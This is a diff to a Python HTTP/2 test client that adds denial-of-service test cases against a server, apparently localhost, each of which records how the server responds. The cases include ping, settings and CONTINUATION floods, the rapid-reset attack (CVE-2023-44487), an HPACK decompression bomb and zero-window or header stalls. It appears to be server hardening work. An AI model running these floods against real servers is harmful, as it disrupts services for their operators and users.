@@ -43,6 +43,7 @@ def err_name(code):
 class Conn:
     def __init__(self, port, tls, host):
         s = socket.create_connection((host, port), timeout=10)
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         if tls:
             ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
             ctx.check_hostname = False
@@ -56,10 +57,15 @@ class Conn:
         self.data = {}
         self.out = []
         self.closed = False
+        self.no_window = False
+        self.no_ack = False
 
     def send(self, *frames):
-        for f in frames:
-            self.s.sendall(f if isinstance(f, bytes) else f.serialize())
+        try:
+            for f in frames:
+                self.s.sendall(f if isinstance(f, bytes) else f.serialize())
+        except OSError:
+            self.closed = True
 
     def start(self, settings=None):
         self.send(PREFACE, SettingsFrame(0, settings=settings or {}))
@@ -116,7 +122,7 @@ class Conn:
 
     def event(self, f):
         if isinstance(f, SettingsFrame):
-            if 'ACK' not in f.flags:
+            if 'ACK' not in f.flags and not self.no_ack:
                 self.send(SettingsFrame(0, flags=['ACK']))
             return []
         if isinstance(f, PingFrame):
@@ -132,7 +138,7 @@ class Conn:
         if isinstance(f, DataFrame):
             self.data[f.stream_id] = self.data.get(f.stream_id, 0) \
                 + len(f.data)
-            if f.flow_controlled_length:
+            if f.flow_controlled_length and not self.no_window:
                 self.send(WindowUpdateFrame(0, f.flow_controlled_length),
                           WindowUpdateFrame(f.stream_id,
                                             f.flow_controlled_length))
@@ -265,6 +271,179 @@ def case_streams(c, arg, path='/index.html'):
             done.add(int(p[1]))
         return len(done) == n or goaway(l)
     c.read(all_done, 10)
+
+
+# ---- attacks: each ends with what the server did about it -------------------
+
+def flood(c, frames, n):
+    """n frames as fast as the socket takes them, the server's answers
+    read meanwhile (so that its ACKs do not fill our socket)."""
+    batch = b''.join(f.serialize() for f in frames)
+    sent = 0
+    c.s.setblocking(False)
+    try:
+        while sent < n and not c.closed:
+            try:
+                c.s.sendall(batch)
+            except (BlockingIOError, ssl.SSLWantWriteError):
+                pass
+            except OSError:
+                break
+            sent += len(frames)
+            try:
+                chunk = c.s.recv(65536)
+                if chunk == b'':
+                    break
+                c.buf += chunk
+            except (BlockingIOError, ssl.SSLWantReadError):
+                pass
+            except OSError:
+                break
+    finally:
+        c.s.setblocking(True)
+    c.read(lambda l: goaway(l), 5)
+
+
+def case_ping_flood(c, n=None):
+    flood(c, [PingFrame(0, b'12345678')], int(n or 5000))
+
+
+def case_settings_flood(c, n=None):
+    flood(c, [SettingsFrame(0)], int(n or 5000))
+
+
+def case_priority_flood(c, n=None):
+    flood(c, [PriorityFrame(1, depends_on=0, stream_weight=16)],
+          int(n or 5000))
+
+
+def case_empty_data_flood(c, n=None):
+    c.send(c.headers(1, [(':method', 'POST'), (':scheme', 'http'),
+                         (':authority', 'localhost'), (':path', '/'),
+                         ('content-length', '1')], end=False))
+    flood(c, [DataFrame(1, b'')], int(n or 5000))
+
+
+def case_rapid_reset(c, n=None, path='/index.html'):
+    """HEADERS then RST_STREAM at once, n times (CVE-2023-44487)."""
+    frames = []
+    try:
+        for i in range(int(n or 5000)):
+            frames += [c.get(1 + 2 * i, path), RstStreamFrame(1 + 2 * i, 8)]
+            if len(frames) >= 200:
+                c.send(*frames)
+                frames = []
+        c.send(*frames)
+    except OSError:
+        pass
+    c.read(goaway, 5)
+
+
+def case_reset_some(c, n=None, path='/index.html', delay=None):
+    """n requests, reset after delay seconds (under the flood limits):
+    their work is to be cancelled; then a valid request."""
+    n = int(n or 20)
+    for i in range(n):
+        c.send(c.get(1 + 2 * i, path))
+    if delay:
+        c.read(lambda l: False, float(delay))
+    for i in range(n):
+        c.send(RstStreamFrame(1 + 2 * i, 8))
+    then_ok(c, 1 + 2 * n)
+
+
+def case_continuation_flood(c, n=None):
+    """HEADERS without END_HEADERS and CONTINUATION frames that never end
+    the block (CVE-2024-28182)."""
+    block = c.enc.encode([(':method', 'GET'), (':scheme', 'http'),
+                          (':authority', 'localhost'), (':path', '/')])
+    f = HeadersFrame(1, block)
+    c.send(f)
+    junk = c.enc.encode([('x-junk', 'j' * 100)])
+    try:
+        for i in range(int(n or 1000)):
+            c.send(ContinuationFrame(1, junk))
+    except OSError:
+        pass
+    if not c.closed:
+        c.read(goaway, 5)
+
+
+def case_hpack_bomb(c, n=None):
+    """One 4000-byte field put in the dynamic table, then referenced by
+    its one-byte index n times in the same head: a small header block
+    that decodes to n * 4 KB."""
+    e = hpack.Encoder()
+    first = e.encode([(':method', 'GET'), (':scheme', 'http'),
+                      (':authority', 'localhost'), (':path', '/index.html'),
+                      ('x-bomb', 'A' * 4000)])
+    block = first + b'\xbe' * int(n or 2000)      # index 62: x-bomb
+    c.enc = e                                     # the table it built
+    f = HeadersFrame(1, block[:16000], flags=['END_STREAM'])
+    c.send(f)
+    rest = block[16000:]
+    while rest:
+        cf = ContinuationFrame(1, rest[:16000])
+        rest = rest[16000:]
+        if not rest:
+            cf.flags.add('END_HEADERS')
+        c.send(cf)
+    if 'END_HEADERS' not in f.flags and len(block) <= 16000:
+        c.send(ContinuationFrame(1, b'', flags=['END_HEADERS']))
+    c.read(ends(1))
+    if not c.closed and not any(goaway(l) for l in c.out):
+        then_ok(c, 3)
+
+
+def case_zero_window(c, path='/big.txt', wait=None):
+    """A window of 0 that is never opened: the response waits, and the
+    server's send timeout ends it."""
+    c.no_window = True
+    c.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
+    c.send(c.get(1, path))
+    end = time.time() + float(wait or 10)
+    while time.time() < end:
+        l = c.read(lambda l: l.startswith('RST') or goaway(l)
+                   or l == 'CLOSED', end - time.time())
+        if l in ('CLOSED', 'TIMEOUT'):
+            break
+
+
+def case_idle(c, wait=None, path='/index.html'):
+    """One request, then nothing: the keep-alive timeout's (or a
+    drain's) GOAWAY, then the close."""
+    c.send(c.get(1, path))
+    c.read(ends(1))
+    c.read(lambda l: l == 'CLOSED', float(wait or 10))
+
+
+def case_headers_stall(c, wait=None):
+    """A head that never ends (no END_HEADERS, no CONTINUATION)."""
+    block = c.enc.encode([(':method', 'GET'), (':scheme', 'http'),
+                          (':authority', 'localhost'), (':path', '/')])
+    c.no_ack = True              # nothing may come between the frames
+    c.send(HeadersFrame(1, block))
+    c.read(lambda l: l == 'CLOSED', float(wait or 10))
+
+
+def case_fairness(c, big='/big.bin', small='/index.html', n=None):
+    """One big response, then n small ones on the same connection: in
+    which order they end (the small ones must not wait for the big)."""
+    n = int(n or 20)
+    c.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE:
+                                      1 << 24}),
+           WindowUpdateFrame(0, 1 << 24))
+    c.send(c.get(1, big))
+    for i in range(n):
+        c.send(c.get(3 + 2 * i, small))
+    done = set()
+
+    def all_done(l):
+        p = l.split()
+        if p[0] in ('END', 'RST'):
+            done.add(int(p[1]))
+        return len(done) == n + 1 or goaway(l)
+    c.read(all_done, 60)
 
 
 def main():
